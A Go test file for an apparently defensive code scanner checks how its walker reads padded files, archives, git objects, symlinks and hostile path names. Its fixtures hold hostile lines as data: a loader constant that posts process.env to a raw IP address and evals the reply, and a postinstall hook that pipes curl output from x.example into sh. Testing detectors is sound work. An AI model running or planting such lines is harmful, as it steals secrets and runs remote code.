package scan

import (
	"bytes"
	"compress/zlib"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// loaderLine is code appended after padding, the shape the walk must not
// lose past MaxFileBytes.
const loaderLine = `axios.post("http://45.61.136.10:1224/c",{...process.env}).then(r=>eval(r.data))`

// collect walks path and returns every window handed over, data copied.
func collect(t *testing.T, path string, lim Limits) ([]File, WalkStats) {
	t.Helper()
	var out []File
	st, err := Walk(context.Background(), path, lim, func(f *File) error {
		c := *f
		c.Data = bytes.Clone(f.Data)
		out = append(out, c)
		return nil
	})
	if err != nil {
		t.Fatalf("Walk: %v", err)
	}
	return out, st
}

// reasons returns the Unread reasons of st.
func reasons(st WalkStats) []string {
	var r []string
	for _, u := range st.Unread {
		r = append(r, u.Reason+":"+u.Path)
	}
	return r
}

func TestWalkLongFileWindows(t *testing.T) {
	t.Parallel()
	lim := Limits{MaxFileBytes: 64 << 10, MaxTotalBytes: 64 << 20, MaxFiles: 100, MaxDepth: 3, MaxRatio: 100}
	// 1 MiB of comment lines, then the loader: past MaxFileBytes.
	pad := strings.Repeat("// "+strings.Repeat("x", 60)+"\n", (1<<20)/64)
	body := pad + loaderLine + "\n"
	sum := sha256.Sum256([]byte(body))
	want := hex.EncodeToString(sum[:])
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "auth.js"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	bin := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 200<<10)...)
	cases := []struct {
		name, path string
		hashOnHead bool
	}{
		{"directory", dir, true},
		{"zip (over the ratio: not reread)", write(t, "r.zip", zipOf(t, ent{name: "auth.js", body: body})), false},
		{"tgz (read once)", write(t, "r.tgz", gz(t, tarOf(t, ent{name: "auth.js", body: body}))), false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			files, st := collect(t, c.path, lim)
			if st.Incomplete || len(st.Unread) > 0 {
				t.Fatalf("a file within the stream limit is read whole; got unread %v, skipped %v", reasons(st), st.Skipped)
			}
			if st.Files != 1 || len(files) < 2 {
				t.Fatalf("want 1 file in several windows, got Files=%d, %d windows", st.Files, len(files))
			}
			var found bool
			var hashes []string
			for i, f := range files {
				if f.Path != "auth.js" || !f.Truncated || len(f.Data) > int(lim.MaxFileBytes) {
					t.Fatalf("window %d: path %q truncated %v len %d", i, f.Path, f.Truncated, len(f.Data))
				}
				if i > 0 && f.Offset == 0 {
					t.Fatalf("window %d has offset 0", i)
				}
				if k := bytes.Index(f.Data, []byte("axios.post")); k >= 0 {
					found = true
					line := f.Line + bytes.Count(f.Data[:k], []byte{'\n'})
					if wantLine := strings.Count(pad, "\n") + 1; line != wantLine {
						t.Errorf("loader at line %d of the window's count, want %d", line, wantLine)
					}
					if got := string(body[f.Offset : f.Offset+int64(len(f.Data))]); got != string(f.Data) {
						t.Errorf("window at offset %d does not match the file there", f.Offset)
					}
				}
				if f.SHA256 != "" {
					hashes = append(hashes, f.SHA256)
				}
			}
			if !found {
				t.Fatal("the loader after 1 MiB of padding was never handed over")
			}
			if len(hashes) != 1 || hashes[0] != want {
				t.Fatalf("want the whole file's sha256 once (%s), got %v", want, hashes)
			}
			if c.hashOnHead && files[0].SHA256 != want {
				t.Errorf("a re-readable file carries its hash on the head")
			}
		})
	}
	t.Run("binary is hashed, not windowed", func(t *testing.T) {
		t.Parallel()
		files, st := collect(t, write(t, "tool.bin", bin), lim)
		if len(files) != 1 || st.Incomplete {
			t.Fatalf("want the head only, got %d windows, unread %v", len(files), reasons(st))
		}
		s := sha256.Sum256(bin)
		if files[0].SHA256 != hex.EncodeToString(s[:]) {
			t.Fatalf("binary hash %q, want the whole file's", files[0].SHA256)
		}
		fs := BinaryDetector{}.Detect(&files[0])
		if len(fs) != 1 || !strings.Contains(fs[0].Snippet, hex.EncodeToString(s[:])) || strings.Contains(fs[0].Snippet, "first") {
			t.Fatalf("COMMITTED-BINARY must show the whole file's hash, got %+v", fs)
		}
	})
}

func TestWalkUnread(t *testing.T) {
	t.Parallel()
	lim := Limits{MaxFileBytes: 64 << 10, MaxTotalBytes: 64 << 20, MaxFiles: 100, MaxDepth: 3, MaxRatio: 100}
	l0 := zipOf(t, ent{name: "loader.js", body: loaderLine})
	deep := l0
	for range 4 {
		deep = zipOf(t, ent{name: "l.zip", body: string(deep)})
	}
	tgz := gz(t, tarOf(t, ent{name: "package/a.js", body: randomText(200 << 10)}, ent{name: "package/b.js", body: "x"}))
	many := make([]ent, 150)
	for i := range many {
		many[i] = ent{name: "f" + strings.Repeat("x", i%7) + string(rune('a'+i%26)) + string(rune('a'+i/26)), body: ""}
	}
	tests := []struct {
		name string
		path string
		lim  Limits
		want string // "reason:path" of the first Unread
	}{
		{"stream limit", write(t, "big.js", []byte(strings.Repeat(" ", 300<<10)+loaderLine)),
			Limits{MaxFileBytes: 64 << 10, MaxTotalBytes: 128 << 10, MaxFiles: 100, MaxRatio: 100}, UnreadFileTail + ":big.js"},
		{"nested too deep", write(t, "deep.zip", deep), lim, UnreadArchiveTooDeep + ":l.zip!/l.zip!/l.zip!/l.zip"},
		{"archive too large inside an archive", write(t, "o.zip", zipOf(t, ent{name: "in.tgz", body: string(tgz)})),
			Limits{MaxFileBytes: 1 << 10, MaxTotalBytes: 64 << 20, MaxFiles: 100, MaxDepth: 3, MaxRatio: 100}, UnreadArchiveTooLarge + ":in.tgz"},
		{"truncated gzip", write(t, "cut.tgz", tgz[:len(tgz)/2]), lim, UnreadArchiveCut + ":"},
		{"too many zip entries", write(t, "many.zip", zipOf(t, many...)), lim, UnreadArchiveTooMany + ":"},
		{"hard link", write(t, "h.tar", tarOf(t, ent{name: "package.json", typ: '1', link: "x"})), lim, UnreadHardLink + ":package.json"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, st := collect(t, tc.path, tc.lim)
			if !st.Incomplete || len(st.Unread) == 0 || st.UnreadCount != len(st.Unread) {
				t.Fatalf("want an Unread entry and Incomplete, got %v (incomplete %v), skipped %v", reasons(st), st.Incomplete, st.Skipped)
			}
			if got := reasons(st)[0]; !strings.HasPrefix(got, tc.want) || (strings.HasSuffix(tc.want, ":") && !strings.HasSuffix(got, filepath.Base(tc.path))) {
				t.Fatalf("first unread %q, want %q", got, tc.want)
			}
		})
	}
}

func TestWalkRatioAndGzipMembers(t *testing.T) {
	t.Parallel()
	lim := Limits{MaxFileBytes: 4 << 20, MaxTotalBytes: 64 << 20, MaxFiles: 100, MaxDepth: 3, MaxRatio: 100}
	// A member over the ratio limit is read, not skipped.
	z := write(t, "w2.zip", zipOf(t, ent{name: "index.js", body: loaderLine + "\n" + strings.Repeat(" ", 2<<20)}))
	files, st := collect(t, z, lim)
	if len(files) != 1 || !bytes.Contains(files[0].Data, []byte("axios.post")) || st.Incomplete {
		t.Fatalf("ratio member: want index.js read whole, got %d files, unread %v skipped %v", len(files), reasons(st), st.Skipped)
	}
	// A first member of 3 MiB of zeros does not cut the tarball.
	tgz := write(t, "bomb-first.tgz", gz(t, tarOf(t,
		ent{name: "package/assets/blank.bmp", body: strings.Repeat("\x00", 3<<20)},
		ent{name: "package/package.json", body: `{"scripts":{"postinstall":"curl -s http://x.example/a|sh"}}`})))
	files, st = collect(t, tgz, lim)
	var paths []string
	for _, f := range files {
		paths = append(paths, f.Path)
	}
	if st.Incomplete || len(paths) != 2 || paths[1] != "package/package.json" {
		t.Fatalf("want both members and a complete walk, got %v, unread %v skipped %v", paths, reasons(st), st.Skipped)
	}
	// The total limit still cuts a gzip bomb, and says so.
	bomb := write(t, "bomb.tgz", gz(t, tarOf(t, ent{name: "z", body: strings.Repeat("\x00", 8<<20)}, ent{name: "after.js", body: "x"})))
	_, st = collect(t, bomb, Limits{MaxFileBytes: 1 << 20, MaxTotalBytes: 2 << 20, MaxFiles: 100, MaxRatio: 100})
	if !st.Incomplete || len(st.Unread) == 0 {
		t.Fatalf("a stream over the total limit is unread, got %v", st.Skipped)
	}
}

func TestWalkGitObjects(t *testing.T) {
	t.Parallel()
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte("blob 5\x00hello"))
	zw.Close()
	obj := "ab/" + strings.Repeat("c", 38)
	dir := t.TempDir()
	for p, body := range map[string]string{
		".git/HEAD":                     "ref: refs/heads/main\n",
		".git/objects/" + obj:           z.String(),
		".git/objects/pack/pack-1.pack": "PACK\x00\x00\x00\x02",
		"lib/.git/objects/l.js":         loaderLine,
		"lib/.git/objects/" + obj:       loaderLine, // named like an object, holds JavaScript
		".git/modules/z/objects/m.js":   loaderLine,
	} {
		full := filepath.Join(dir, filepath.FromSlash(p))
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	zipPath := write(t, "g.zip", zipOf(t, ent{name: "proj/lib/.git/objects/l.js", body: loaderLine},
		ent{name: "proj/.git/objects/" + obj, body: z.String()}, ent{name: "vendor/.git/modules/z/objects/m.js", body: loaderLine}))
	for _, c := range []struct {
		path string
		want []string
	}{
		{dir, []string{".git/HEAD", ".git/modules/z/objects/m.js", "lib/.git/objects/ab/" + strings.Repeat("c", 38), "lib/.git/objects/l.js"}},
		{zipPath, []string{"proj/lib/.git/objects/l.js", "vendor/.git/modules/z/objects/m.js"}},
	} {
		files, st := collect(t, c.path, Limits{})
		var got []string
		for _, f := range files {
			got = append(got, f.Path)
		}
		if strings.Join(got, ",") != strings.Join(c.want, ",") {
			t.Errorf("%s: read %v, want %v (skipped %v)", filepath.Base(c.path), got, c.want, st.Skipped)
		}
		for _, s := range st.Skipped {
			if strings.Contains(s, "objects") && !strings.Contains(s, ".git/objects") {
				t.Errorf("note names the wrong store: %s", s)
			}
		}
	}
}

func TestSafePath(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"src/index.js":                    "src/index.js",
		"src/\x1b[2K\rREADME\u202egnp.js": `src/\x1b[2K\x0dREADME\u202egnp.js`,
		"a\u2066b\u2069\u200bc\u00a0d":    `a\u2066b\u2069\u200bc\u00a0d`,
		`a\u202e`:                         `a\\u202e`,
		"caf\u00e9/\u4e2d.js":             "caf\u00e9/\u4e2d.js",
		"x\xff\U000E0041":                 `x\xff\U000e0041`,
	} {
		if got := SafePath(in); got != want {
			t.Errorf("SafePath(%q) = %q, want %q", in, got, want)
		}
	}
	if FoldPath(".vscode/Tasks.json") != ".vscode/tasks.json" || FoldPath("Package.JSON") != "package.json" {
		t.Error("FoldPath must lower-case")
	}
}

func TestWalkLinkInTreeCarriesTarget(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "docs"), 0o755)
	manifest := `{"scripts":{"postinstall":"curl -s http://x.example/a|sh"}}`
	os.WriteFile(filepath.Join(dir, "docs", "manifest.txt"), []byte(manifest), 0o644)
	outside := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(outside, []byte("outside"), 0o644)
	for name, target := range map[string]string{"package.json": "docs/manifest.txt", "out": outside, "up": "../x", "dirlink": "docs"} {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	s, _, err := walkAll(t, dir, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if f := s.files["package.json"]; f.Link != "docs/manifest.txt" || string(f.Data) != manifest || f.Mode&os.ModeSymlink == 0 {
		t.Errorf("an in-tree link carries its target's content under its own path: %+v", f)
	}
	for _, p := range []string{"out", "up", "dirlink"} {
		if f := s.files[p]; len(f.Data) != 0 || f.Link == "" {
			t.Errorf("%s: a link out of the tree or to a folder carries no content: %+v", p, f)
		}
	}
}
